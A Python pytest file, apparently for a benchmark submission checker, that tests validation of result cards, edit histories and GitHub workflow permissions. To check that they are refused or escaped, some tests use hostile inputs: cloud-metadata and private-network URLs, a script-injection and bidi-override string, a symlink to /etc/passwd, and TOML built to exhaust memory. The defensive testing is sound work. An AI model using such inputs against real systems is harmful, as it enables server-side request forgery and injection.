        put(head, new, card_of(new, verified=False, changes=changes, date=date))
        return told(checked(head, "good", base=base, maintainer=True), head)

    second = reason_for(old, "2026-11-26")
    assert problems([first, second]) == []
    assert any("changes: the entry of 2026-11-20 was changed" in one for one in problems([second, first]))
    back = second.model_copy(update={"date": "2026-11-19"})
    assert any("changes.1.date: is 2026-11-19, the entry before it" in one for one in problems([first, back]))
    invented = first.model_copy(update={"date": "2026-11-26", "old_micro_ap": 0.1})
    assert any(
        "changes.2: tells of a result that this row did not have" in one for one in problems([first, second, invented])
    )
    for date, shown in (("2025-01-01", "2025-01-01"), (None, "missing")):
        assert any(f"date: is {shown}, it was 2026-11-01" in one for one in problems([first, second], date))


def test_the_summary_lists_each_edit_with_old_and_new(head: Path, base: Path, results: dict[str, Result]) -> None:
    put(head, results["fair"], card_of(results["fair"], authors=["Mallory"], date="2026-11-01"))
    report = checked(head, base=base)
    (change,) = report.changes or ()
    assert [(one.file, one.field, one.before, one.now) for one in edits(change.row)] == [
        ("card", "authors", "['Somebody']", "['Mallory']"),
        ("card", "date", "None", "2026-11-01"),
    ]
    listed = "- `fair`, card `authors`: was `['Somebody']`, is `['Mallory']`"
    assert listed in markdown(report)
    by_maintainer = markdown(checked(head, base=base, maintainer=True)).splitlines()
    assert "### Edits of rows that were there before" in by_maintainer[:6]
    assert listed in by_maintainer


@pytest.mark.parametrize("title", ["\N{MICRO SIGN}AP of \N{GREEK SMALL LETTER ALPHA}-nets", "The method good, 2"])
def test_titles_that_only_they_have_are_not_warned_of(head: Path, results: dict[str, Result], title: str) -> None:
    put(head, results["fair"], card_of(results["fair"], method=Method(title=title), authors=["Else"]))
    assert checked(head, "fair").warnings == ()


def test_runs_of_one_method_are_one_method(head: Path, results: dict[str, Result]) -> None:
    for seed, name in enumerate(("good", "fair")):
        put(head, results[name], card_of(results[name], runs_of="Ours", seed=seed))
    assert checked(head).ok
    other = DECLARED.model_copy(update={"external_data": "yes"})
    intruder = {"authors": ["Another"], "declarations": other, "runs_of": "Ours", "seed": 0}
    put(head, results["poor"], card_of(results["poor"], **intruder))
    problems = " ".join(told(checked(head), head))
    for text in ("authors: has other authors than fair", "declarations: has other", "seed: is that of good too"):
        assert text in problems


@pytest.mark.parametrize(
    "address",
    ["http://169.254.169.254/latest/meta-data/", "http://localhost:8000/x.h5", "https://10.0.0.1/x", "http://router/x"],
)
def test_addresses_that_only_the_runner_reaches_are_refused_in_pull_requests(
    head: Path, base: Path, results: dict[str, Result], address: str
) -> None:
    files = Files(name="good.h5", sha256=results["good"].digests.submission, url=address)
    put(head, results["good"], card_of(results["good"], descriptors=files))
    (error,) = checked(head, base=base, maintainer=True).errors
    assert (error.field, error.message) == ("descriptors.url", "is not an address of the public network")
    assert error.line is not None
    alone = checked(head)
    assert alone.ok
    assert [(problem.level, problem.field) for problem in alone.problems] == [("warning", "descriptors.url")]


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (".".join(["a"] * 30_000) + " = 1", "a key of more than 16 parts"),
        (" . ".join(['"a b"'] * 7_000) + " = 1", "a key of more than 16 parts"),
        ("a = " + "9" * 60_000, "a number without end"),
        ("a = " + "[" * 30_000 + "]" * 30_000, "nested too deep"),
        ("a = " + '"\\' * 30_000, "not TOML"),
    ],
)
def test_cards_made_to_fill_time_and_memory_end(head: Path, text: str, message: str) -> None:
    card_file(head, "good").write_text(text)
    assert any(message in one for one in told(checked(head), head))
    with pytest.raises(SubmissionError, match=message):
        read_card(card_file(head, "good"))


def test_signed_addresses_are_warned_of(head: Path, results: dict[str, Result]) -> None:
    files = Files(
        name="good.h5",
        sha256=results["good"].digests.submission,
        url="https://bucket.example.org/good.h5?X-Amz-Date=1&X-Amz-Signature=abc",
    )
    put(head, results["good"], card_of(results["good"], descriptors=files))
    (warning,) = checked(head).warnings
    assert (warning.field, "X-Amz-Signature" in warning.message) == ("descriptors.url", True)


def test_a_readme_is_a_small_file_at_the_top(head: Path) -> None:
    (head / "results" / "README.md").write_text("what lies here")
    assert checked(head).ok
    (head / "results" / "README.md").write_bytes(b"x" * 100_000)
    (head / "submissions" / "README.md").symlink_to("/etc/passwd")
    (head / "results" / "ndec-1" / "README.md").write_text("x")
    assert [one.partition(":")[0] for one in told(checked(head), head)] == [
        "results/README.md",
        "results/ndec-1/README.md",
        "submissions/README.md",
    ]


def test_a_summary_ends_with_a_line(head: Path, base: Path, results: dict[str, Result]) -> None:
    for number in range(60):
        name = f"row-{number:02d}"
        method = Method(title="x" * 300, description="y" * 4000)
        declared = DECLARED.model_copy(update={"details": "z" * 4000})
        copy = results["good"].model_copy(update={"name": name})
        put(head, copy, card_of(copy, verified=False, method=method, declarations=declared))
    text = markdown(checked(head, base=base))
    assert len(text.encode()) < 56_000
    assert text.endswith("\nThe rest is not shown.\n")
    assert all(line.count("`") % 2 == 0 for line in text.splitlines())


def test_a_check_of_another_list_is_void(head: Path, results: dict[str, Result]) -> None:
    void = Verified(level="re-scored", predictions_sha256="0" * 64)
    put(head, results["good"], card_of(results["good"]).model_copy(update={"verified": void}))
    (warning,) = checked(head).warnings
    assert warning.message == "is not that of the result: the check is void"


HOSTILE = "a | b `c` @octocat <script>alert(1)</script> [x](https://evil.example) \u202eabc\u2066 #1 \\|"


def test_text_of_strangers_stays_text_in_a_comment(make_submission: Make, head: Path, base: Path) -> None:
    new = result_of("new", make_submission, noise=0.8, seed=9)
    details = DECLARED.model_copy(update={"details": HOSTILE * 40})
    put(head, new, card_of(new, method=Method(title=HOSTILE), declarations=details))
    text = markdown(checked(head, base=base, maintainer=True))
    outside = "".join(text.split("`")[::2])  # what is not in a code span
    for piece in ("octocat", "script", "evil", "#1", "\u202e", "\u2066"):
        assert piece not in outside
    (row,) = [line for line in text.splitlines() if line.startswith("| `new`")]
    assert row.count("|") == 9
    assert "\u202e" not in text
    assert code("") == "`-`"


def test_long_lists_end(head: Path, base: Path) -> None:
    for number in range(100):
        (head / "submissions" / f"stray{number}.txt").write_text("x")
    text = markdown(checked(head, base=base))
    assert "- and 40 more" in text
    assert len(text) < 65_536


def test_a_line_break_in_a_file_name_stays_on_its_line(head: Path) -> None:
    (head / "submissions" / "a\nb\x1b[31m").write_text("x")
    (head / "submissions" / os.fsdecode(b"\xff")).write_text("x")
    for problem in told(checked(head), head):
        assert problem.isprintable()


WORKFLOWS = REPOSITORY / ".github" / "workflows"


def test_workflows_of_strangers_may_read_alone_and_run_no_text_of_theirs() -> None:
    yaml = pytest.importorskip("yaml")
    for name, permissions in (
        ("submissions", {"contents": "read"}),
        ("submission-comment", {"actions": "read", "pull-requests": "write"}),
    ):
        content = yaml.safe_load((WORKFLOWS / f"{name}.yml").read_text())
        assert content["name"] == name
        assert content["permissions"] == permissions
        assert "paths" not in str(content[True])  # so that it can be a required status; YAML takes "on" for true
        steps = [step for job in content["jobs"].values() for step in job["steps"]]
        assert all("permissions" not in job for job in content["jobs"].values())
        assert all("${{" not in step.get("run", "") for step in steps)
    comment = (WORKFLOWS / "submission-comment.yml").read_text()
    assert "actions/checkout" not in comment
    assert "workflows: [submissions]" in comment


def test_actions_are_pinned_by_commit() -> None:
    for path in WORKFLOWS.glob("*.yml"):
        for action in re.findall(r"uses: (.*)", path.read_text()):
            assert re.fullmatch(r"[\w/-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+", action), f"{path.name}: {action}"


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
@pytest.mark.parametrize(
    ("sender", "author", "label", "file", "said"),
    [
        ("stranger", "stranger", "", "docs/x.md", []),
        ("stranger", "stranger", "", "results/x", ["any=true"]),
        ("Keeper", "keeper", "", "results/x", ["any=true", "code=own", "flag=--maintainer"]),
        ("keeper", "stranger", "", "results/x", ["any=true"]),  # a push or "reopen" of theirs is no check
        ("keeper", "stranger", "maintainer-checked", "submissions/x", ["any=true", "flag=--maintainer"]),
        ("stranger", "stranger", "maintainer-checked", "results/x", ["any=true"]),
        ("stranger", "keeper", "", "results/x", ["any=true"]),
        ("newcomer", "newcomer", "", "results/x .github/maintainers", ["any=true"]),
    ],
)
def test_maintainers_are_those_listed_where_the_change_goes_to(
    tmp_path: Path, sender: str, author: str, label: str, file: str, said: list[str]
) -> None:
    yaml = pytest.importorskip("yaml")
    steps = yaml.safe_load((WORKFLOWS / "submissions.yml").read_text())["jobs"]["check"]["steps"]
    (script,) = [step["run"] for step in steps if step.get("id") == "change"]
    repository = tmp_path / "repository"
    (repository / ".github").mkdir(parents=True)
    (repository / ".github" / "maintainers").write_text("# A comment\nkeeper\n")
    environment = {**os.environ, "RUNNER_TEMP": str(tmp_path), "GITHUB_OUTPUT": str(tmp_path / "out")}
    environment |= {"SENDER": sender, "AUTHOR": author, "LABEL": label}

    def ran(*command: str) -> None:
        subprocess.run(command, cwd=repository, env=environment, check=True, capture_output=True)

    def commit() -> None:
        ran("git", "add", "-A")
        ran("git", "-c", "user.name=t", "-c", "user.email=t@example.org", "commit", "-qm", "x")

    ran("git", "init", "-q")
    commit()
    for name in file.split():
        (repository / name).parent.mkdir(exist_ok=True)
        (repository / name).write_text(f"{sender}\n")
    commit()
    ran("bash", "-eo", "pipefail", "-c", script)
    written = tmp_path / "out"
    assert (written.read_text().split() if written.exists() else []) == said
